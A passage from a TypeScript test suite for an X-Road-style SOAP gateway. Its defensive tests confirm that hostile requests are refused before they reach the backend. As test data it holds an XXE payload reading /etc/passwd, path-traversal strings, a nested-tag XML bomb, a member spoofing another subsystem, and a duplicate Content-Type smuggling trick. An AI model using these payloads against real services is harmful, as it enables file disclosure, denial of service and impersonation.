      ['another service', (soap) => soap.replace('<iden:serviceCode>getPerson</iden:serviceCode>', '<iden:serviceCode>getPers</iden:serviceCode>')],
      [
        'another service version',
        (soap) => soap.replace('<iden:serviceVersion>v1</iden:serviceVersion>', '<iden:serviceVersion>v2</iden:serviceVersion>'),
      ],
      ['a userId added', beforeHeaderEnd('<xro:userId>EE1</xro:userId>')],
    ])('a backend answer whose header states %s: Server.ServerProxy.InconsistentResponse, signed by the provider', async (_name, edit) => {
      backendAnswers(edit);
      const response = await send(envelope({ id: 'hdr' }));
      expect(faultOf(response)).toBe('Server.ServerProxy.InconsistentResponse');
      const logged = (await eco.consumer.log.find(CLIENT, 'hdr')).find((record) => record.direction === 'response');
      expect(logged).toMatchObject({ errorType: 'Server.ServerProxy.InconsistentResponse' });
      expect(logged?.manifest).toBeDefined();
    });

    test.each<[string, number, string, string]>([
      ['an HTML 500 page', 500, 'text/html', '<html><body><h1>Internal Server Error</h1></body></html>'],
      ['JSON', 200, 'application/json', '{"givenName":"Mari"}'],
      ['text/xml that is not SOAP', 200, TEXT_XML, '<getPersonResponse/>'],
      ['an empty body', 200, TEXT_XML, ''],
      ['SOAP with a DOCTYPE', 200, TEXT_XML, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
    ])('a backend answering %s: Server.ServerProxy.ServiceFailed, signed', async (_name, status, contentType, body) => {
      eco.backend(async () => ({ status, headers: { 'content-type': [contentType] }, body: Buffer.from(body) }));
      const response = await send(envelope({ id: 'failed' }));
      expect(faultOf(response)).toBe('Server.ServerProxy.ServiceFailed');
      const logged = (await eco.consumer.log.find(CLIENT, 'failed')).find((record) => record.direction === 'response');
      expect(logged?.manifest).toBeDefined();
    });
  });

  describe('6. route and protocol confusion', () => {
    test('POST / with a REST-looking body is SOAP: refused by its content type, or as not SOAP', async () => {
      expect(await refusedQuickly('{"id":123}', 'application/json')).toBe('Client.InvalidContentType');
      expect(await refusedQuickly('{"id":123}')).toBe('Client.InvalidSoap');
      nothingHappened();
    });

    test('/r1/… with a SOAP body to a SOAP service: ServiceType, never reaching the backend', async () => {
      const response = await eco.call(`/r1/${GET_PERSON}`, { method: 'POST', headers: { 'content-type': TEXT_XML }, body: envelope() });
      expect(headerValue(response.headers, 'x-road-error')).toBe('Server.ServerProxy.ServiceType');
      expect(eco.backendCalls).toEqual([]);
    });

    test('a SOAP header naming a REST service: ServiceType, never reaching the backend', async () => {
      const response = await send(envelope({ service: 'TEST/GOV/1001/registry/persons', version: null, body: '<prod:persons/>' }));
      expect(faultOf(response)).toBe('Server.ServerProxy.ServiceType');
      expect(eco.backendCalls).toEqual([]);
    });

    test.each([
      ['GET /', 'GET', '/', ''],
      ['POST //', 'POST', '//', ''],
      ['PUT /', 'PUT', '/', ''],
    ])('%s is not a service call', async (_name, method, path, query) => {
      const response = await eco.call(path, {
        method,
        query,
        headers: { 'content-type': TEXT_XML },
        body: method === 'GET' ? undefined : envelope(),
      });
      expect(headerValue(response.headers, 'x-road-error')).toBe('Client.BadRequest');
      nothingHappened();
    });

    test('POST /?x is SOAP: the query never reaches the provider (the signed target is /)', async () => {
      const response = await eco.call('/', { method: 'POST', query: 'x=../../admin', headers: { 'content-type': TEXT_XML }, body: envelope() });
      expect(response.status).toBe(200);
      expect(sentToProvider().map((request) => request.url)).toEqual([`${PROVIDER_URL}/`]);
      expect(eco.backendCalls.map((call) => `${call.rawPath}?${call.rawQuery}`)).toEqual(['/soap?']);
    });

    let metadataIds = 0;
    const metadata = (code: string, body: string) =>
      envelope({
        id: `metadata-${++metadataIds}`,
        service: `TEST/GOV/1001/registry/${code}`,
        version: null,
        body: `<xro:${code}>${body}</xro:${code}>`,
      });

    test('getWsdl of a REST service is ServiceType; of an unknown service UnknownService; neither reaches a backend', async () => {
      expect(faultOf(await send(metadata('getWsdl', '<xro:serviceCode>persons</xro:serviceCode>')))).toBe('Server.ServerProxy.ServiceType');
      expect(faultOf(await send(metadata('getWsdl', '<xro:serviceCode>nothing</xro:serviceCode>')))).toBe('Server.ServerProxy.UnknownService');
      expect(faultOf(await send(metadata('getWsdl', '<xro:serviceCode>../../etc/passwd</xro:serviceCode>')))).toBe(
        'Server.ServerProxy.UnknownService',
      );
      expect(eco.backendCalls).toEqual([]);
    });

    test('allowedMethods lists only what the caller may call (getSecret stays out); listMethods lists the SOAP services', async () => {
      const allowed = (await send(metadata('allowedMethods', ''))).body.toString('utf8');
      expect(allowed).toContain('<id:serviceCode>getPerson</id:serviceCode>');
      expect(allowed).not.toContain('getSecret');
      expect(allowed).not.toContain('persons');
      const listed = (await send(metadata('listMethods', ''))).body.toString('utf8');
      expect(listed).toContain('<id:serviceCode>getSecret</id:serviceCode>');
      expect(listed).not.toContain('persons');
      expect(eco.backendCalls).toEqual([]);
    });

    test('a metadata request whose Body element is another one is refused (InconsistentHeaders)', async () => {
      const swapped = envelope({ service: 'TEST/GOV/1001/registry/listMethods', version: null, body: '<xro:allowedMethods/>' });
      expect(await refusedQuickly(swapped)).toBe('Client.InconsistentHeaders');
      const wsdl = envelope({
        service: 'TEST/GOV/1001/registry/listMethods',
        version: null,
        body: '<xro:getWsdl><xro:serviceCode>getSecret</xro:serviceCode></xro:getWsdl>',
      });
      expect(await refusedQuickly(wsdl)).toBe('Client.InconsistentHeaders');
      nothingHappened();
    });
  });

  describe('7. an unauthenticated caller at the provider’s root', () => {
    test('an unsigned POST / is refused unsigned, nothing logged, no backend call', async () => {
      const response = await handleProviderRequest(
        {
          method: 'POST',
          rawPath: '/',
          rawQuery: '',
          headers: { 'content-type': [TEXT_XML], 'x-road-client': [CLIENT], 'x-road-id': ['unsigned'] },
          body: Buffer.from(envelope({ id: 'unsigned' })),
        },
        eco.provider.deps,
      );
      expect(response.status).toBe(401);
      expect(faultOf(response)).toBe('Server.ServerProxy.InvalidSignatureValue');
      expect(isSigned(response)).toBe(false);
      nothingHappened();
    });

    test('an unsigned POST / with a hostile body is refused the same way: the body is never parsed before the signature', async () => {
      const started = performance.now();
      const bomb = `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`;
      const response = await handleProviderRequest(
        { method: 'POST', rawPath: '/', rawQuery: '', headers: { 'content-type': [TEXT_XML] }, body: Buffer.from(bomb) },
        eco.provider.deps,
      );
      expect(performance.now() - started).toBeLessThan(500);
      expect(faultOf(response)).toBe('Server.ServerProxy.InvalidSignatureValue');
      nothingHappened();
    });
  });
});

describe('SOAP attacks across processes (the local ecosystem)', () => {
  let eco: TestEcosystem;
  const GET_PERSON_DEV = 'DEV/GOV/70000001/population/getPerson';

  beforeAll(async () => {
    eco = await startTestEcosystem();
  }, 60_000);
  afterAll(async () => {
    await eco?.stop();
  });

  /** A SOAP request of tax-records for getPerson in the demo ecosystem. */
  const devEnvelope = (options: Envelope = {}) => envelope({ client: TAX_CLIENT, service: GET_PERSON_DEV, ...options });
  const soapCalls = () => eco.backend.received.filter((call) => call.path === '/soap/population');
  const fault = (response: { headers: Record<string, string>; body: Buffer }) => ({
    type: response.headers['x-road-error'],
    code: /<faultcode>([^<]*)<\/faultcode>/.exec(response.body.toString('utf8'))?.[1],
  });

  test('control: tax-records calls getPerson over SOAP', async () => {
    const before = soapCalls().length;
    const response = await eco.call('/', { method: 'POST', headers: { 'content-type': TEXT_XML }, body: devEnvelope({ id: 'e2e-ok' }) });
    expect(response.status).toBe(200);
    expect(soapCalls()).toHaveLength(before + 1);
  });

  test('an unauthenticated POST / at the provider API is refused unsigned; the backend never sees it', async () => {
    const before = soapCalls().length;
    const response = await rawCall(
      `${eco.agencies['population-registry'].providerUrl}/`,
      [
        ['content-type', TEXT_XML],
        ['x-road-client', TAX_CLIENT],
        ['x-road-id', 'e2e-unsigned'],
      ],
      {
        method: 'POST',
        body: Buffer.from(devEnvelope({ id: 'e2e-unsigned' })),
      },
    );
    expect(response.status).toBe(401);
    expect(fault(response)).toEqual({ type: 'Server.ServerProxy.InvalidSignatureValue', code: 'Server.ServerProxy.InvalidSignatureValue' });
    expect(response.headers['x-sild-manifest']).toBeUndefined();
    expect(soapCalls()).toHaveLength(before);
  });

  test('GET / and POST // at the consumer and provider APIs are not service calls', async () => {
    const before = soapCalls().length;
    for (const [method, path] of [
      ['GET', '/'],
      ['POST', '//'],
    ]) {
      const consumer = await eco.call(path, {
        method,
        headers: { 'content-type': TEXT_XML, 'x-road-client': TAX_CLIENT },
        body: method === 'GET' ? undefined : devEnvelope(),
      });
      expect(consumer.status).toBeGreaterThanOrEqual(400);
      const provider = await rawCall(`${eco.agencies['population-registry'].providerUrl}${path}`, [['content-type', TEXT_XML]], {
        method,
        body: method === 'GET' ? undefined : Buffer.from(devEnvelope()),
      });
      expect(provider.status).toBeGreaterThanOrEqual(400);
      expect(provider.headers['x-sild-manifest']).toBeUndefined();
    }
    expect(soapCalls()).toHaveLength(before);
  });

  test('a hostile member signing getPerson while its header names another member’s subsystem is refused before the backend', async () => {
    const before = soapCalls().length;
    const hostile = hostileMember(eco);
    const response = await hostile.send('population-registry', {
      path: '/',
      method: 'POST',
      headers: { 'content-type': TEXT_XML },
      body: devEnvelope({ id: 'e2e-hostile', client: 'DEV/COM/10000003/crm' }),
      xRoadId: 'e2e-hostile',
      manifest: { service: GET_PERSON_DEV, serviceVersion: 'v1' },
    });
    expect(fault(response).type).toBe('Server.ServerProxy.InvalidSignatureValue');
    expect(soapCalls()).toHaveLength(before);
  });

  test('a hostile member’s two Content-Type lines (the Node backend reads the first) are refused before the backend', async () => {
    const before = soapCalls().length;
    const victim = devEnvelope({ id: 'e2e-smuggled', client: 'DEV/COM/10000003/crm' });
    const outer = devEnvelope({
      id: 'e2e-smuggled',
      body: `<prod:getPerson><id>123</id><note><![CDATA[\r\n--b\r\nContent-Type: text/xml\r\n\r\n${victim}\r\n--b--\r\n]]></note></prod:getPerson>`,
    });
    const response = await hostileMember(eco).send('population-registry', {
      path: '/',
      method: 'POST',
      lines: [
        ['content-type', 'multipart/related; type="text/xml"; boundary=b'],
        ['content-type', TEXT_XML],
      ],
      body: outer,
      xRoadId: 'e2e-smuggled',
      manifest: { service: GET_PERSON_DEV, serviceVersion: 'v1' },
    });
    expect(fault(response).type).toBe('Client.InvalidContentType');
    expect(soapCalls()).toHaveLength(before);
  });
});
